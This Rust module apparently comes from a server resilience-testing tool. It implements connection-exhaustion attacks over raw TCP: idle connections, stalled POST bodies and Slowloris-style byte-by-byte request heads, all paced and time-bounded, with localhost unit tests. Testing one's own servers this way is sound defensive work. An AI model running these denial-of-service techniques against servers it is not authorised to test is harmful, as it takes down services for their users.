//! Attack connections over raw TCP: request heads and bodies that stall, connections
//! that never send anything, request heads trickled a byte at a time. An HTTP client
//! cannot stall on purpose, so these are written by hand on tokio sockets.
//!
//! Every connection is bound to an attack source address before it connects, opened at
//! a bounded pace, and closed at the attack's end at the latest. Whatever the server
//! does — answer, close, reset, refuse, never accept — is counted, never an error.

use std::collections::BTreeMap;
use std::io;
use std::net::{Ipv4Addr, SocketAddr};
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use bytes::Bytes;
use hdrhistogram::Histogram;
use serde::{Deserialize, Serialize};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::tcp::{OwnedReadHalf, OwnedWriteHalf};
use tokio::net::{TcpSocket, TcpStream};
use tokio::task::JoinSet;

use super::Sources;
use crate::stats::{self, Percentiles};

/// Body bytes are written in chunks of this many spaces (after an opening `[`).
static SPACES: [u8; 64 * 1024] = [b' '; 64 * 1024];

/// What each attack connection sends once connected.
#[derive(Debug, Clone)]
pub enum Payload {
    /// Nothing at all: the connection just stays open.
    Idle,
    /// A request head, then `body` bytes of the (longer) body it declares, then nothing.
    Stalled { head: Bytes, body: usize },
    /// A request head one byte every `every`, never reaching its end.
    Slowloris { head: Bytes, every: Duration },
}

/// How an attack went, from the attacker's side.
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct AttackReport {
    /// Connections the attack meant to open.
    pub connections: usize,
    /// Connections whose `connect` was attempted (the rest fell after the attack's end).
    pub attempted: u64,
    /// Connections the server's kernel accepted (not necessarily the server itself).
    pub connected: u64,
    /// Failed connects, by error (`timed out` when the handshake never finished).
    pub connect_failures: BTreeMap<String, u64>,
    /// Most connections open at once.
    pub peak_open: u64,
    /// Answers, by status code (the first status line a connection received).
    pub answered: BTreeMap<String, u64>,
    /// Connections the server closed (FIN) or reset before the attack's end.
    pub closed_by_server: u64,
    /// Of those, resets.
    pub reset_by_server: u64,
    /// Time from connect to the server's close, of the connections it closed.
    pub closed_after: Percentiles,
    /// Connections whose writes failed (the server had gone away).
    pub write_failed: u64,
    /// Connections still open at the attack's end, closed then by the attacker.
    pub held_to_end: u64,
    /// Bytes written into the attack sockets (head and body), whether read or not.
    pub bytes_written: u64,
}

/// Live counters, shared by every connection task and the progress line.
#[derive(Default)]
pub struct Counters {
    attempted: AtomicU64,
    connected: AtomicU64,
    open: AtomicU64,
    peak_open: AtomicU64,
    closed: AtomicU64,
    reset: AtomicU64,
    write_failed: AtomicU64,
    held: AtomicU64,
    bytes: AtomicU64,
    answered: AtomicU64,
    failures: Mutex<BTreeMap<String, u64>>,
    statuses: Mutex<BTreeMap<String, u64>>,
    closed_after: Mutex<Option<Histogram<u64>>>,
}

impl Counters {
    /// One progress line: connections open, closed by the server, answered, refused.
    pub fn progress(&self) -> String {
        let failed: u64 = self.failures.lock().expect("counters lock").values().sum();
        format!(
            "attack: {} open, {} connected, {} closed by server, {} answered, {} connects failed",
            self.open.load(Ordering::Relaxed),
            self.connected.load(Ordering::Relaxed),
            self.closed.load(Ordering::Relaxed),
            self.answered.load(Ordering::Relaxed),
            failed
        )
    }

    fn count(map: &Mutex<BTreeMap<String, u64>>, key: String) {
        *map.lock().expect("counters lock").entry(key).or_default() += 1;
    }

    fn report(&self, connections: usize) -> AttackReport {
        let closed_after = self.closed_after.lock().expect("counters lock");
        AttackReport {
            connections,
            attempted: self.attempted.load(Ordering::Relaxed),
            connected: self.connected.load(Ordering::Relaxed),
            connect_failures: self.failures.lock().expect("counters lock").clone(),
            peak_open: self.peak_open.load(Ordering::Relaxed),
            answered: self.statuses.lock().expect("counters lock").clone(),
            closed_by_server: self.closed.load(Ordering::Relaxed),
            reset_by_server: self.reset.load(Ordering::Relaxed),
            closed_after: closed_after
                .as_ref()
                .map(Percentiles::of)
                .unwrap_or_default(),
            write_failed: self.write_failed.load(Ordering::Relaxed),
            held_to_end: self.held.load(Ordering::Relaxed),
            bytes_written: self.bytes.load(Ordering::Relaxed),
        }
    }
}

/// How a connection's reading side ended.
enum Closed {
    Eof,
    Reset,
}

/// How long a connect may take before it counts as `timed out`.
const CONNECT_TIMEOUT: Duration = Duration::from_secs(5);

/// Opens `connections` connections to `target` at `per_sec` a second from `sources`,
/// each sending `payload`, and closes every one still open at `end`. Returns once all
/// are closed.
pub async fn run(
    target: SocketAddr,
    sources: Sources,
    connections: usize,
    per_sec: f64,
    payload: Payload,
    end: Instant,
    counters: Arc<Counters>,
) -> AttackReport {
    let payload = Arc::new(payload);
    let pace = Duration::from_secs_f64(1.0 / per_sec.max(1.0));
    let start = Instant::now();
    let mut tasks = JoinSet::new();
    for i in 0..connections {
        let at = start + pace.mul_f64(i as f64);
        if at >= end {
            break;
        }
        tokio::time::sleep_until(at.into()).await;
        let source = sources.address(i);
        tasks.spawn(connection(
            source,
            target,
            payload.clone(),
            end,
            counters.clone(),
        ));
        // Reap finished tasks as we go, so a long attack does not keep them all.
        while tasks.try_join_next().is_some() {}
    }
    while tasks.join_next().await.is_some() {}
    counters.report(connections)
}

/// One attack connection, from connect to close; everything it sees goes to `counters`.
async fn connection(
    source: Ipv4Addr,
    target: SocketAddr,
    payload: Arc<Payload>,
    end: Instant,
    counters: Arc<Counters>,
) {
    counters.attempted.fetch_add(1, Ordering::Relaxed);
    let connect_by = end.min(Instant::now() + CONNECT_TIMEOUT);
    let stream = match tokio::time::timeout_at(connect_by.into(), connect(source, target)).await {
        Ok(Ok(stream)) => stream,
        Ok(Err(err)) => return Counters::count(&counters.failures, err.to_string()),
        Err(_) if Instant::now() >= end => return, // cut short by the attack's end
        Err(_) => return Counters::count(&counters.failures, "timed out".to_owned()),
    };
    let connected_at = Instant::now();
    counters.connected.fetch_add(1, Ordering::Relaxed);
    let open = counters.open.fetch_add(1, Ordering::Relaxed) + 1;
    counters.peak_open.fetch_max(open, Ordering::Relaxed);

    let (mut reader, mut writer) = stream.into_split();
    let mut status = None;
    let closed = {
        let read = read_until_closed(&mut reader, &mut status);
        let write = write_payload(&mut writer, &payload, &counters);
        tokio::pin!(read, write);
        let mut writing = true;
        loop {
            tokio::select! {
                closed = &mut read => break Some(closed),
                written = &mut write, if writing => {
                    writing = false;
                    if written.is_err() {
                        counters.write_failed.fetch_add(1, Ordering::Relaxed);
                    }
                }
                () = tokio::time::sleep_until(end.into()) => break None,
            }
        }
    };
    counters.open.fetch_sub(1, Ordering::Relaxed);
    if let Some(status) = status {
        counters.answered.fetch_add(1, Ordering::Relaxed);
        Counters::count(&counters.statuses, status.to_string());
    }
    match closed {
        Some(how) => {
            counters.closed.fetch_add(1, Ordering::Relaxed);
            if matches!(how, Closed::Reset) {
                counters.reset.fetch_add(1, Ordering::Relaxed);
            }
            let mut histogram = counters.closed_after.lock().expect("counters lock");
            stats::record(
                histogram.get_or_insert_with(stats::histogram),
                connected_at.elapsed(),
            );
        }
        None => {
            counters.held.fetch_add(1, Ordering::Relaxed);
        }
    }
}

/// A socket bound to `source` (any free port), connected to `target`.
pub(super) async fn connect(source: Ipv4Addr, target: SocketAddr) -> io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    // Ports of the previous scenario's connections may still be in TIME_WAIT.
    socket.set_reuseaddr(true)?;
    socket.bind(SocketAddr::new(source.into(), 0))?;
    let stream = socket.connect(target).await?;
    stream.set_nodelay(true)?;
    Ok(stream)
}

/// Reads until the server closes, keeping the status of the first answer's status line.
async fn read_until_closed(reader: &mut OwnedReadHalf, status: &mut Option<u16>) -> Closed {
    let mut head = Vec::with_capacity(16);
    let mut buf = [0u8; 1024];
    loop {
        match reader.read(&mut buf).await {
            Ok(0) => return Closed::Eof,
            Ok(n) => {
                if status.is_none() {
                    let want = 12usize.saturating_sub(head.len());
                    head.extend_from_slice(&buf[..n.min(want)]);
                    *status = parse_status(&head);
                }
            }
            Err(_) => return Closed::Reset,
        }
    }
}

/// The code of an HTTP/1 status line (`HTTP/1.1 503 ...`), once 12 bytes of it arrived.
pub(super) fn parse_status(head: &[u8]) -> Option<u16> {
    if head.len() < 12 || !head.starts_with(b"HTTP/1.") {
        return None;
    }
    std::str::from_utf8(&head[9..12]).ok()?.parse().ok()
}

/// Sends the payload; returns when it is all written (then the connection stalls), or
/// with the error of the write that failed.
async fn write_payload(
    writer: &mut OwnedWriteHalf,
    payload: &Payload,
    counters: &Counters,
) -> io::Result<()> {
    let written = |n: usize| counters.bytes.fetch_add(n as u64, Ordering::Relaxed);
    match payload {
        Payload::Idle => Ok(()),
        Payload::Stalled { head, body } => {
            writer.write_all(head).await?;
            written(head.len());
            if *body == 0 {
                return Ok(());
            }
            writer.write_all(b"[").await?;
            written(1);
            let mut left = body - 1;
            while left > 0 {
                let n = left.min(SPACES.len());
                writer.write_all(&SPACES[..n]).await?;
                written(n);
                left -= n;
            }
            Ok(())
        }
        Payload::Slowloris { head, every } => {
            for byte in head.chunks(1) {
                writer.write_all(byte).await?;
                written(1);
                tokio::time::sleep(*every).await;
            }
            Ok(())
        }
    }
}

/// `POST path` declaring a `content_length`-byte JSON body, with `token` if any.
pub fn stalled_head(host: &str, path: &str, content_length: usize, token: Option<&str>) -> Bytes {
    let authorization =
        token.map_or_else(String::new, |t| format!("Authorization: Bearer {t}\r\n"));
    Bytes::from(format!(
        "POST {path} HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/json\r\n\
         Content-Length: {content_length}\r\n{authorization}\r\n"
    ))
}

/// The start of a request head at least `len` bytes long, without the blank line that
/// would end it.
pub fn slowloris_head(host: &str, path: &str, len: usize) -> Bytes {
    let mut head =
        format!("POST {path} HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/json\r\n");
    let mut i = 0;
    while head.len() < len {
        head.push_str(&format!("X-Slow-{i}: {}\r\n", "x".repeat(32)));
        i += 1;
    }
    Bytes::from(head)
}

#[cfg(test)]
mod tests {
    use super::*;
    use tokio::net::TcpListener;

    #[test]
    fn heads_declare_the_body_and_slowloris_never_ends() {
        let head = stalled_head("h:1", "/p", 1_048_576, Some("ingk_x"));
        let text = std::str::from_utf8(&head).unwrap();
        assert!(text.contains("Content-Length: 1048576\r\n"));
        assert!(text.contains("Authorization: Bearer ingk_x\r\n"));
        assert!(text.ends_with("\r\n\r\n"));
        assert!(!std::str::from_utf8(&stalled_head("h:1", "/p", 5, None))
            .unwrap()
            .contains("Authorization"));
        let slow = slowloris_head("h:1", "/p", 500);
        assert!(slow.len() >= 500);
        assert!(!std::str::from_utf8(&slow).unwrap().contains("\r\n\r\n"));
    }

    #[test]
    fn parses_status_lines() {
        assert_eq!(parse_status(b"HTTP/1.1 503 Service Unavailable"), Some(503));
        assert_eq!(parse_status(b"HTTP/1.0 408 "), Some(408));
        assert_eq!(parse_status(b"HTTP/1.1 20"), None);
        assert_eq!(parse_status(b"SSH-2.0-OpenSSH_9"), None);
    }

    /// A server that answers the first connection and closes it, reads the second's
    /// body to the end and keeps it open: one answered and closed, one held.
    #[tokio::test]
    async fn counts_answers_closes_and_held_connections() {
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let target = listener.local_addr().unwrap();
        let server = tokio::spawn(async move {
            let (mut first, _) = listener.accept().await.unwrap();
            first
                .write_all(b"HTTP/1.1 401 Unauthorized\r\n\r\n")
                .await
                .unwrap();
            drop(first);
            let (mut second, _) = listener.accept().await.unwrap();
            let mut sink = vec![0u8; 64 * 1024];
            while second.read(&mut sink).await.unwrap_or(0) > 0 {}
        });
        let counters = Arc::new(Counters::default());
        let sources = Sources::new(Ipv4Addr::LOCALHOST, 1000);
        let payload = Payload::Stalled {
            head: Bytes::from_static(b"POST / HTTP/1.1\r\nContent-Length: 100000\r\n\r\n"),
            body: 99_999,
        };
        let end = Instant::now() + Duration::from_millis(800);
        let report = run(target, sources, 2, 10.0, payload, end, counters).await;
        server.abort();
        assert_eq!(report.connected, 2, "{report:?}");
        assert_eq!(report.answered.get("401"), Some(&1), "{report:?}");
        assert_eq!(report.closed_by_server, 1, "{report:?}");
        assert_eq!(report.held_to_end, 1, "{report:?}");
        assert!(report.bytes_written >= 100_000, "{report:?}");
    }

    #[tokio::test]
    async fn counts_refused_connections() {
        // A port that was free a moment ago: nothing listens there.
        let port = TcpListener::bind("127.0.0.1:0")
            .await
            .unwrap()
            .local_addr()
            .unwrap();
        let counters = Arc::new(Counters::default());
        let sources = Sources::new(Ipv4Addr::LOCALHOST, 1000);
        let end = Instant::now() + Duration::from_millis(300);
        let report = run(port, sources, 3, 100.0, Payload::Idle, end, counters).await;
        assert_eq!(report.connected, 0, "{report:?}");
        assert_eq!(
            report.connect_failures.values().sum::<u64>(),
            3,
            "{report:?}"
        );
    }
}
